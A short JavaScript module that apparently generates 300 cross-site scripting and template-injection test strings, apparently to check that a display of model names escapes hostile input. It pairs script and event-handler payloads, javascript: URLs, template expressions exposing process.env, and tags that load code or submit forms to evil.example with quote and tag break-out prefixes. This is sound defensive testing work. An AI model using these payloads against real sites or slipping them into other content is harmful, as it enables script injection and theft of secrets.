/** What HTML, attributes, URLs, scripts, styles and templates might take for their own, and ways out of each. */
const CORES = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><button>x',
  '<meta http-equiv=refresh content=0>',
  '<base href=//evil.example>',
  '<style>*{display:none}</style>',
  '<button hx-get=//evil.example hx-trigger=load>',
  '<hx-partial hx-target="#usage">x</hx-partial>',
  '<template hx type="partial">x</template>',
  '<!-- comment',
  '--><b>x</b>',
  '<![CDATA[x]]>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '&amp;quot;',
  '<%= process.env %>',
  '<%~ include("x") %>',
  '{{constructor.constructor("x")()}}',
  '\x24{alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<b>x</b>',
  '<math><mi xlink:href="data:x">',
  '<input autofocus onfocus=alert(1)>',
  '<plaintext>',
];
const BEFORE = ['', '"', "'", '">', "'>", '</title>', '</option></select>', '</pre>', '` ', ' onmouseover=x '];

/** 300 of them, each different, each at most 100 characters: what a model's name holds. */
export const PAYLOADS = CORES.flatMap((core) => BEFORE.map((before) => before + core)).filter(
  (text) => text.length <= 100,
);
